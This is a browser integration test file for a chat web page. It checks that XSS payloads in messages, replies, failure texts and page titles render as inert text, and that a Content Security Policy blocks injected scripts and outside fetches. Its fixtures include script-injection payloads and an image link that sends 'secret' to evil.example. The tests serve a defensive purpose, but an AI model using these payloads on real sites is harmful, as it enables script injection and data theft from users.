"""Whatever a person, a model or a configuration says, the page only shows it."""

from pathlib import Path

import pytest
from playwright.async_api import BrowserContext

from herald_contracts.subjects import Names
from tests import servers
from tests.browser import ChatPage
from tests.integration.web.stage import Gateway, Worker

pytestmark = pytest.mark.asyncio(loop_scope="module")

HOSTILE = """\
<script>window.pwned = 1</script>
<img src="https://evil.example/a.png" onerror="window.pwned = 2">
<svg onload="window.pwned = 3"></svg>
<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>

[click](javascript:window.pwned=5) [tab](java\tscript:window.pwned=6) <javascript:window.pwned=7>

![steal](https://evil.example/?q=secret) [data](data:text/html,<script>window.pwned=8</script>)

<a href="javascript:window.pwned=9" onclick="window.pwned=10">html link</a> <style>body { display: none }</style>

[good](https://good.example/path)

```"><script>window.pwned = 11</script>
</code></pre><script>window.pwned = 12</script>
```
"""
_ELEMENTS = "script, img, svg, iframe, style, object, embed, form, input, link, meta, base"
_HANDLERS = """() => [...document.querySelectorAll("#log *")].flatMap((e) =>
    [...e.attributes].map((a) => a.name).filter((name) => name.startsWith("on") || name === "style"))"""


async def assert_inert(chat: ChatPage, gateway: Gateway) -> None:
    page = chat.page
    assert await page.locator("#log").locator(_ELEMENTS).count() == 0
    assert await page.evaluate(_HANDLERS) == []
    for link in await page.locator("#log a").all():
        assert (await link.get_attribute("href") or "").startswith(("https://", "http://"))
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert await link.get_attribute("target") == "_blank"
    assert await page.evaluate("window.pwned") is None
    assert all(address.startswith(gateway.origin) for address in chat.asked)
    assert chat.errors == []


async def test_hostile_words_are_shown_and_nothing_more(chat: ChatPage, gateway: Gateway, worker: Worker) -> None:
    await chat.send(HOSTILE)
    asked = await worker.next()
    assert asked.message.content == HOSTILE.strip()
    await asked.show(HOSTILE)
    (turn,) = await chat.until(lambda turns: len(turns) == 1 and len(turns[0].answers) == 1)
    await assert_inert(chat, gateway)
    await asked.reply(HOSTILE)
    await chat.until(lambda turns: [a.state for a in turns[0].answers] == ["answer"])
    await assert_inert(chat, gateway)
    links = [await link.get_attribute("href") for link in await chat.page.locator("#log a").all()]
    # The first stands in raw HTML that is shown as text: an address is an address.
    assert links == [
        "https://evil.example/a.png",
        "https://evil.example/?q=secret",
        "https://good.example/path",
    ]
    assert "<script>window.pwned = 1</script>" in turn.answers[0].text

    await chat.reload()
    await chat.until(lambda turns: len(turns) == 1 and len(turns[0].answers) == 1)
    await assert_inert(chat, gateway)


async def test_a_hostile_failure_text_is_shown_only(chat: ChatPage, gateway: Gateway, worker: Worker) -> None:
    await chat.send("x")
    await (await worker.next()).reply(HOSTILE, "failure")
    await chat.until(lambda turns: [a.state for t in turns for a in t.answers] == ["failure"])
    await assert_inert(chat, gateway)


async def test_a_hostile_title_is_text(
    someone: BrowserContext, nats: servers.Nats, names: Names, tmp_path: Path
) -> None:
    title = "</title><script>window.pwned = 1</script><img src=x onerror='window.pwned = 2'>\"&amp;"
    gateway = Gateway(tmp_path / "gateway", nats.settings, names, title=title)
    gateway.start()
    try:
        chat = await ChatPage.open(someone, gateway.url)
        assert await chat.page.title() == title
        assert await chat.page.get_by_role("heading", level=1).inner_text() == title
        assert await chat.page.locator("h2 bdi").inner_text() == title
        await assert_inert(chat, gateway)
    finally:
        gateway.stop()


async def test_the_policy_stops_what_would_get_past_the_renderer(chat: ChatPage) -> None:
    """The second wall: HTML that is inserted by mistake can still run nothing and fetch nothing from elsewhere."""
    await chat.page.evaluate(
        """() => {
            const inserted = document.createElement("div");
            inserted.innerHTML = '<img src="https://evil.example/a.png" onerror="window.pwned = 1">' +
                '<iframe srcdoc="<script>parent.pwned = 2</scr' + 'ipt>"></iframe>';
            const script = document.createElement("script");
            script.textContent = "window.pwned = 3";
            document.body.append(inserted, script);
        }"""
    )
    outside = await chat.page.evaluate("fetch('https://evil.example/').then(() => 'fetched', () => 'stopped')")
    assert outside == "stopped"
    assert await chat.page.evaluate("window.pwned") is None
    stopped = [error for error in chat.errors if "Content Security Policy" in error]
    assert len(stopped) == len(chat.errors) >= 3
    chat.errors.clear()


async def test_the_session_is_out_of_a_script_s_reach(chat: ChatPage, someone: BrowserContext) -> None:
    assert await chat.page.evaluate("document.cookie") == ""
    (cookie,) = await someone.cookies()
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Strict"
    assert cookie["path"] == "/channels/web"
    assert cookie["value"].partition(".")[0] not in await chat.page.content()
